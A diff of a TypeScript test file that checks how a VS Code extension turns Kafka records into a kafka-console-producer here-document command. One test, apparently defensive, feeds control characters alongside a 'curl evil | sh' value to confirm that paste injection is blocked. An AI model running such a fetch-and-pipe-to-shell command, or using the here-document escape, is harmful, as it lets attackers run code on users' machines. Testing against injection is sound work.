@@ -1,33 +1,15 @@
 import assert from 'node:assert/strict';
 import { describe, it } from 'node:test';
-import {
-  consoleProducerCommand,
-  type ConsoleRecord,
-} from '../../../../src/vscode/tail/copy/consoleProducerCommand.ts';
-
-const bytes = (text: string | null): Uint8Array | null =>
-  text === null ? null : new TextEncoder().encode(text);
-
-function record(
-  key: string | null,
-  value: string | null,
-  headers: readonly (readonly [string, string | null])[] = [],
-): ConsoleRecord {
-  return {
-    key: () => bytes(key),
-    value: () => bytes(value),
-    headers: () =>
-      headers.map(([name, header]) => ({
-        name: new TextEncoder().encode(name),
-        value: bytes(header),
-      })),
-  };
-}
+import { consoleProducerCommand } from '../../../../src/vscode/tail/copy/consoleProducerCommand.ts';
+import { consoleRecord } from '../../../support/consoleRecord.ts';
 
 describe('a kafka-console-producer command', () => {
   it('has a line for each record', () => {
     assert.equal(
-      consoleProducerCommand(['h:1'], 'orders', [record('a', '{"n":1}'), record('b', 'x y')]).text,
+      consoleProducerCommand(['h:1'], 'orders', [
+        consoleRecord('a', '{"n":1}'),
+        consoleRecord('b', 'x y'),
+      ]).text,
       "kafka-console-producer.sh --bootstrap-server h:1 --topic orders --property parse.key=true --property 'key.separator=|' <<'END'\n" +
         'a|{"n":1}\nb|x y\nEND\n',
     );
@@ -35,16 +17,16 @@ describe('a kafka-console-producer command', () => {
 
   it('needs no properties where there are only values, and ends with no line of its own', () => {
     assert.equal(
-      consoleProducerCommand(['h:1'], 'o', [record(null, 'END')]).text,
+      consoleProducerCommand(['h:1'], 'o', [consoleRecord(null, 'END')]).text,
       "kafka-console-producer.sh --bootstrap-server h:1 --topic o <<'END_'\nEND\nEND_\n",
     );
   });
 
   it('chooses separators and a word for null that no text has', () => {
     const { text } = consoleProducerCommand(['h:1'], 'o', [
-      record('a|b', null, [['x:y', 'null']]),
-      record(null, 'null', [['z', null]]),
-      record('k', 'v'),
+      consoleRecord('a|b', null, [['x:y', 'null']]),
+      consoleRecord(null, 'null', [['z', null]]),
+      consoleRecord('k', 'v'),
     ]);
     assert.match(text, /null\.marker=NULL/);
     assert.match(text, /key\.separator=[^|]/);
@@ -52,10 +34,10 @@ describe('a kafka-console-producer command', () => {
   });
 
   it('leaves out what a line cannot carry', () => {
-    const binary = { ...record('k', ''), value: () => Uint8Array.of(0xff) };
+    const binary = { ...consoleRecord('k', ''), value: () => Uint8Array.of(0xff) };
     const { text, leftOut } = consoleProducerCommand(['h:1'], 'o', [
-      record('k', 'a\nb'),
-      record('k', 'good'),
+      consoleRecord('k', 'a\nb'),
+      consoleRecord('k', 'good'),
       binary,
     ]);
     assert.equal(leftOut, 2);
@@ -67,9 +49,9 @@ describe('a kafka-console-producer command', () => {
     // Ctrl+C ends the here-document, and the shell runs what follows.
     for (const control of ['\x03', '\x04', '\x1b[201~', '\x7f', '\x9b']) {
       const { text, leftOut } = consoleProducerCommand(['h:1'], 'o', [
-        record('k', control),
-        record('k', 'curl evil | sh'),
-        record('tab\tin key', 'v'),
+        consoleRecord('k', control),
+        consoleRecord('k', 'curl evil | sh'),
+        consoleRecord('tab\tin key', 'v'),
       ]);
       assert.equal(leftOut, 1);
       assert.ok(!text.includes(control));
